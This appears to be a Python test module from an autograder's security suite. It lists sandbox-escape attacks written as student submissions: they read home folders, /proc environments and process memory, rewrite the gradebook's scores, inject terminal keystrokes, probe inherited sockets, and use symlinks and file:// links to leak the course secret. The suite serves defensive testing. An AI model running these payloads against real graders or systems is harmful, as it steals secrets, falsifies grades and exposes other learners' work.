"""Attacks that want to read, or to carry out, what is not theirs. Secrets are planted (see the
test): in the grader's home, environment and memory, in the course, and with other learners."""

from tests.attacks.corpus import attack

X = "exfiltration"


@attack(X)
def the_home_folder():
    import glob
    import os

    for start in ("~", "/root", "/home", "/home/*", os.path.expanduser("~root"), "@HOME@"):
        start = os.path.expanduser(start)
        for path in sum((glob.glob(start + end) for end in ("/*", "/.*", "/*/*", "/.*/*")), []):
            if os.path.isfile(path) and not path.startswith("/learner"):
                try:
                    print(path, open(path, errors="replace").read(2000))
                except OSError:
                    pass


@attack(X)
def the_course_folder():
    """By its full name, as if known; and by every way up."""
    import os
    import sqlite3

    ups = ["@ROOT@", *("../" * n for n in range(1, 8)), "/proc/1/cwd", "/proc/1/root@ROOT@"]
    for up in ups:
        for name in (".secret", "gradebook.db", "nbgrader_config.py", "submitted", "source"):
            path = os.path.join(up, name)
            try:
                print(path, os.listdir(path) if os.path.isdir(path) else open(path).read())
            except OSError:
                pass
            try:
                found = sqlite3.connect(f"file:{path}?mode=rw", uri=True)
                found.execute("update grade set auto_score = 1000")
                print("BREACH: gradebook opened")
            except sqlite3.Error:
                pass


@attack(X)
def other_submissions():
    import os

    for step in ("submitted", "autograded", "feedback"):
        for student in ("honest-solved", "honest-wrong"):
            folder = f"@ROOT@/{step}/{student}/03_two_pass_mlp"
            try:
                print(os.listdir(folder), open(f"{folder}/03_two_pass_mlp.ipynb").read())
            except OSError:
                pass
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "/learner", "/learner/work"):
        try:
            print(folder, [name for name in os.listdir(folder)])
        except OSError:
            pass


@attack(X)
def the_environment():
    import os
    import subprocess

    print(dict(os.environ))
    for name in os.listdir("/proc"):
        if name.isdigit():
            for part in ("environ", "cmdline", "task/1/environ", "auxv"):
                try:
                    print(name, open(f"/proc/{name}/{part}", errors="replace").read())
                except OSError:
                    pass
    print(subprocess.run("set; env; export -p", shell=True, capture_output=True, text=True).stdout)


@attack(X)
def memory_of_others():
    """/proc of every process that can be seen, and of those that cannot."""
    import os

    for pid in [*range(1, 300), os.getppid()]:
        if pid == os.getpid():
            continue
        for part in ("mem", "maps", "environ", "fd", "root", "cwd", "map_files", "task", "stack"):
            path = f"/proc/{pid}/{part}"
            try:
                found = os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(99)
            except OSError:
                continue
            if found and part not in ("task", "maps") and not (part == "mem" and not found):
                print("BREACH:", path, found[:3])


@attack(X)
def the_control_socket():
    """Every descriptor: what is on it, who is at its other end, what it hands over."""
    import array
    import os
    import socket
    import stat
    import sys

    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            target, state = os.readlink(f"/proc/self/fd/{fd}"), os.fstat(fd)
        except OSError:
            continue
        if not stat.S_ISSOCK(state.st_mode):
            if "bplab-view" in target or "@ROOT@" in target:
                print("BREACH: open file", target)
            continue
        end = socket.socket(fileno=os.dup(fd))
        end.setblocking(False)
        try:
            data, more, *_ = end.recvmsg(2**20, socket.CMSG_SPACE(64), socket.MSG_PEEK)
            print("peeked", data[:500], more)
        except OSError:
            pass
        try:
            peer = end.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12)
            if int.from_bytes(peer[:4], sys.byteorder) == os.getpid():
                continue  # its event loop's own
            rights = (socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [fd]))
            if fd != 64:
                print("BREACH: a second line", fd, end.sendmsg([b"+"], [rights]))
        except OSError:
            pass
        end.detach()


@attack(X)
def abstract_sockets():
    """Names in the abstract namespace: to listen there, and to reach who listens."""
    import socket

    for line in open("/proc/net/unix").read().splitlines()[1:]:
        if "@" in line:
            print("BREACH: visible", line)
    for name in ("\0bplab", "\0meeting", "\0/tmp/.X11-unix/X0", "/run/dbus/system_bus_socket"):
        end = socket.socket(socket.AF_UNIX)
        try:
            end.connect(name)
            print("BREACH: reached", name)
        except OSError:
            pass
    listener = socket.socket(socket.AF_UNIX)
    listener.bind("\0meeting")
    listener.listen()


@attack(X)
def consoles():
    """The instructor's terminal, the kernel's log, devices."""
    import fcntl
    import os
    import termios

    for path in ("/dev/tty", "/dev/console", "/dev/tty0", "/dev/kmsg", "/dev/mem", "/dev/sda"):
        try:
            fd = os.open(path, os.O_RDWR)
            print("BREACH:", path)
        except OSError:
            continue
        fcntl.ioctl(fd, termios.TIOCSTI, b"x")
    for number in range(3):
        try:
            fcntl.ioctl(number, termios.TIOCSTI, b"x")
            print("BREACH: typed into a terminal")
        except OSError:
            pass
    for path in ("/proc/kcore", "/proc/kallsyms", "/proc/keys", "/proc/1/stack"):
        try:
            found = open(path, "rb").read(100)
        except OSError:
            continue
        if path in ("/proc/kcore", "/proc/1/stack"):
            print("BREACH:", path, found)


@attack(X)
def links_to_be_collected(room):
    """Outputs and Markdown that name files of the grader's, for a converter to put them in."""
    from tests.attacks.classroom import markdown

    source = (
        "from IPython.display import HTML, Image, Markdown, SVG, display\n"
        "import os\n"
        "print('armed')\n"
        "os.symlink('@ROOT@/.secret', 'secret.png')\n"
        "for path in ('@ROOT@/.secret', '../../../.secret', 'secret.png', '@HOME@/.netrc'):\n"
        '    display(HTML(f\'<img src="{path}"><img src="file://{path}">\'))\n'
        '    display(HTML(f\'<iframe src="file://{path}"></iframe><object data="{path}">\'))\n'
        "    display(Markdown(f'![x]({path}) ![y](file://{path})'))\n"
        "    for show in (Image, SVG):\n"
        "        try: display(show(filename=path))\n"
        "        except Exception as error: print(type(error).__name__)\n"
        "    try: display(Image(url='file://' + path, embed=True))\n"
        "    except Exception as error: print(type(error).__name__)\n"
    )
    notebook = room.with_code(source)
    cell = markdown("linked", "![a](../../../.secret) ![b](@ROOT@/.secret) ![c](attachment:s)")
    cell["attachments"] = {"s": {"image/png": "../../../.secret"}}
    notebook["cells"].append(cell)
    return notebook


@attack(X)
def a_timestamp_that_is_a_link(room):
    """The grader copies the time of submission. Here it is the course's secret."""
    room.hand_in("a-timestamp-that-is-a-link", room.released())
    folder = room.folder("a-timestamp-that-is-a-link")
    (folder / "timestamp.txt").symlink_to(room.root / ".secret")


@attack(X)
def timing_of_a_neighbor():
    """Locks on files that all submissions see, held as long as possible."""
    import fcntl
    import glob
    import sys

    held = []
    for path in glob.glob(sys.prefix + "/lib/python*/site-packages/numpy/*.py")[:50]:
        try:
            held.append(open(path))
            fcntl.flock(held[-1], fcntl.LOCK_EX | fcntl.LOCK_NB)
        except OSError:
            pass
